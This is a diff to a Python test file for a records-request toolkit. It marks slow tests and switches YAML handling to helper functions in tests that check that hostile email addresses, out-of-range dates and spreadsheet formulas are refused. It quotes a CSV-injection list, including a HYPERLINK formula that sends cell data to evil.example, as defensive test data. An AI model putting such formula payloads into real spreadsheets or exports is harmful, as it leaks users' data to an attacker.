@@ -249,6 +249,7 @@ def test_an_import_of_a_device_or_a_huge_line_is_refused_unread(
     assert not open_log().exists()
 
 
+@pytest.mark.slow  # 20 MB read under tracemalloc (5 s of CPU); the quick run keeps the others
 def test_an_import_reads_a_line_at_a_time(tmp_path: Path, directory: Directory,
                                           answers: Answers) -> None:
     """Streamed: the largest read is one line (plus one byte), never the file."""
@@ -406,9 +407,9 @@ def test_a_date_beyond_the_range_is_refused_at_every_door(
 def test_a_directory_date_beyond_the_range_is_refused(where: str, tmp_path: Path) -> None:
     """The class, the directory's door: every date agencies.yaml holds."""
     from recordskit.directory.load import check_directory
-    from tests.conftest import FROZEN_AGENCIES
+    from tests.conftest import frozen_agencies_data, yaml_text
 
-    data = yaml.safe_load(FROZEN_AGENCIES.read_text())
+    data = frozen_agencies_data()
     if where == "agency source":
         data["agencies"][0]["sources"][0]["verified_on"] = date(1900, 1, 1)
     elif where == "record":
@@ -419,7 +420,7 @@ def test_a_directory_date_beyond_the_range_is_refused(where: str, tmp_path: Path
     else:
         data["precedents"][0]["published"] = date(2101, 1, 1)
     path = tmp_path / "agencies.yaml"
-    path.write_text(yaml.safe_dump(data, sort_keys=False))
+    path.write_text(yaml_text(data, sort_keys=False))
     _directory, problems = check_directory(path)
     assert any("outside 1990–2100" in p.message for p in problems), problems
 
@@ -605,7 +606,7 @@ def _address_doors(directory: Directory, answers: Answers, tmp_path: Path
     """Every door an address comes in by, each a function that takes it in."""
     from recordskit.directory.load import check_directory
     from recordskit.intake.rows import check_rows, read_rows
-    from tests.conftest import FROZEN_AGENCIES
+    from tests.conftest import FROZEN_AGENCIES, frozen_agencies_data, yaml_text
 
     def requester(address: str) -> Any:
         return request_from(answers(requester__email=address), directory)
@@ -614,10 +615,10 @@ def _address_doors(directory: Directory, answers: Answers, tmp_path: Path
         return request_from(answers(send_to=address), directory)
 
     def directory_file(address: str) -> Any:
-        data = yaml.safe_load(FROZEN_AGENCIES.read_text())
+        data = frozen_agencies_data()
         data["agencies"][0]["records_officer"]["email"] = address
         path = tmp_path / "agencies.yaml"
-        path.write_text(yaml.safe_dump(data, sort_keys=False))
+        path.write_text(yaml_text(data, sort_keys=False))
         found, problems = check_directory(path)
         if problems:
             raise ValueError(problems)
@@ -656,8 +657,11 @@ def _address_doors(directory: Directory, answers: Answers, tmp_path: Path
             "agencies edit --set": edit, "a batch row": batch_row}
 
 
-@pytest.mark.parametrize("door", ["requester.email", "send_to", "agencies.yaml",
-                                  "agencies edit --set", "a batch row"])
+@pytest.mark.parametrize("door", [
+    "requester.email", "send_to", "agencies.yaml",
+    # 26 runs of the whole command (5 s of CPU); the quick run checks the same addresses
+    # through the same directory check at the agencies.yaml door
+    pytest.param("agencies edit --set", marks=pytest.mark.slow), "a batch row"])
 def test_every_address_door_is_strict(door: str, directory: Directory, answers: Answers,
                                       tmp_path: Path) -> None:
     """Defect 12 and its class: each hostile address refused at each door; each good one
@@ -755,13 +759,13 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-1+1", "@
 
 
 def _directory_with_title(tmp_path: Path, title: str) -> Path:
-    from tests.conftest import FROZEN_AGENCIES
+    from tests.conftest import frozen_agencies_data, yaml_text
 
-    data = yaml.safe_load(FROZEN_AGENCIES.read_text())
+    data = frozen_agencies_data()
     record = next(a for a in data["agencies"] if a["id"] == "bps")["records"][0]
     record["title"] = title
     path = tmp_path / "agencies.yaml"
-    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True))
+    path.write_text(yaml_text(data, sort_keys=False, allow_unicode=True))
     return path
 
 
@@ -778,7 +782,11 @@ def _csv_cells(path: Path) -> list[str]:
     return [cell for row in csv.reader(path.open(newline="", encoding="utf-8")) for cell in row]
 
 
-@pytest.mark.parametrize("formula", FORMULAS)
+# Four commands a shape (0.15 s of CPU): the quick run tries the shape reported and the two
+# that test_attack's CSV test lacks (spaces before, a full-width sign), CI all ten.
+@pytest.mark.parametrize("formula", [
+    formula if formula in (FORMULAS[0], "  =1+1", "\uff1d1+1")
+    else pytest.param(formula, marks=pytest.mark.slow) for formula in FORMULAS])
 def test_no_spreadsheet_cell_runs_a_formula(formula: str, tmp_path: Path) -> None:
     """Defect 13 as reported (a record title from the directory, written live by
     ``batch --template``), and its class: each formula shape, from the directory and from a
